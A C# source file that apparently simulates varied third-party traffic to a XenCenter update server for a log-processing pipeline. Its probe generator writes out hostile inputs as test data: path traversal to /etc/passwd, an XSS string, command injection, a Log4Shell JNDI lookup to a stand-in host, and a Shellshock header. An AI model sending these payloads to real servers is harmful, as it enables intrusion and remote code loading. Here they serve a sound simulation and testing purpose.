namespace Pipeline.Worlds;

/// <summary>Everybody else who asks: other products on the same URLs, scripts, downloads, monitors, probes and attacks.</summary>
internal sealed class Others(WorldOptions options, List<Request> requests)
{
    private readonly Random _random = Chance.For(options.Seed, "others");
    private readonly long _start = Calendar.Micros(options.Start);

    public void Live(AddressBook book)
    {
        // Xen Orchestra asks whenever somebody looks at its page: dozens of times a day from one address.
        Each(options.Installs / 120 + 1, () => (book.V4(), _random.Next(1, 25), Pick(Drawn.Orchestra)));
        Each(options.Installs / 150 + 1, () => (book.V4(), 1, Pick(Drawn.XcpNg)));
        Each(options.Installs / 60 + 1, () => (book.V4(), 1, Pick(Drawn.Script)));
        Each(options.Installs / 80 + 1, () => (book.Documentation(), _random.Next(1, 4), Pick(Drawn.Download)));
        Each(options.Installs / 50 + 1, () => (book.Documentation(), _random.Next(1, 8), Pick(Drawn.Probe)));
        Each(options.Installs / 200 + 1, () => (book.Documentation(), 8, Pick(Drawn.Monitor)));
        Each(options.Installs / 200 + 1, () => (book.V4(), 1, Pick(Drawn.OddVersion)));
        Each(options.Installs / 150 + 1, () => (book.V4(), 1, Pick(Drawn.ScriptOfAgents)));
    }

    /// <summary>A stranger's request of any kind.</summary>
    public static Request Any(Random random, long at, ClientAddress from) =>
        Draw(random, (Drawn)random.Next((int)Drawn.ScriptOfAgents + 1), at, from);

    private void Each(int clients, Func<(ClientAddress From, int PerDay, Drawn Kind)> draw)
    {
        for (var i = 0; i < clients; i++)
        {
            var (from, perDay, kind) = draw();
            for (var n = 0; n < perDay * options.Days; n++)
            {
                requests.Add(Draw(_random, kind, _start + _random.Between(0, options.Days * Calendar.Day), from));
            }
        }
    }

    private static Drawn Pick(Drawn kind) => kind;

    private enum Drawn { Orchestra, XcpNg, Script, Download, Probe, Monitor, OddVersion, ScriptOfAgents }

    private static Request Draw(Random random, Drawn kind, long at, ClientAddress from) => kind switch
    {
        Drawn.Orchestra => random.Happens(0.5)
            ? new(at, from, "GET", Release.Servers, "", "node", 200, Outcome.OtherClient)
            : new(at, from, "GET", Release.Servers, "", "", 200, Outcome.NoAgentString),
        Drawn.XcpNg => new(at, from, "GET", Release.Legacy, "", "XCP-ng Center/20.03.0.29 (64-bit)", 200, Outcome.OtherClient),
        Drawn.Script => new(at, from, "GET", random.Pick(Release.Modern, Release.Servers), "",
            random.Pick("curl/8.5.0", "python-requests/2.31.0", "Go-http-client/1.1", "Wget/1.21.4",
                "Mozilla/5.0 (compatible; XenCenter/2025.2.0.8315 (64-bit))"), 200, Outcome.OtherClient),
        Drawn.Download => new(at, from, "GET", random.Pick("/xc/XenCenter.msi", "/xc/XenCenter-source.zip", "/xc/"), "",
            random.Pick("", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "XenCenter/2025.2.0.8315 (64-bit)"), 200, Outcome.OtherPath),
        Drawn.Probe => new(at, from, random.Pick("GET", "GET", "POST", "OPTIONS"),
            random.Pick("/", "/.env", "/wp-login.php", "/cgi-bin/../../etc/passwd", "/updates.tsv.bak", "/XCUpdates.xml/", "/myupdates.tsv",
                "/robots.txt"),
            random.Pick("", "q=%00", "a=<script>alert(1)</script>", "next=/updates.2.tsv", "cmd={id}&x=;--"),
            random.Pick("", "zgrab/0.x", "${jndi:ldap://203.0.113.66/a}", "() { :;}; echo \"XenCenter/1.2.3.4\"", "Mozilla/5.0 \\x22 \\",
                "sqlmap/1.7#stable"), 404, Outcome.OtherPath),
        Drawn.Monitor => new(at, from, random.Pick("HEAD", "HEAD", "POST", "PUT"),
            random.Pick(Release.Modern, Release.Servers, "/updates.2.tsv", "/updates.9.3.2.110.json"), "",
            random.Pick("UptimeRobot/2.0", "", "XenCenter/2025.2.0.8315 (64-bit)", Agents.Name), 405, Outcome.NotGet),
        Drawn.OddVersion => new(at, from, "GET", Release.Modern, "",
            random.Pick("XenCenter/8.2 (64-bit)", "XenCenter/dev (64-bit)", "XenCenter/2025.2.0.8315.1 (64-bit)",
                "XenCenter/12345678901.0.0.0 (64-bit)", "[XenCenter]/2025.2..1 (32-bit)"),
            200, Outcome.BadVersion),
        _ => new(at, from, "GET", "/updates.9.3.2.110.json", "", random.Pick("choco-install", "PowerShell/7.4", "curl/8.5.0", ""), 200,
            Outcome.Agent),
    };
}
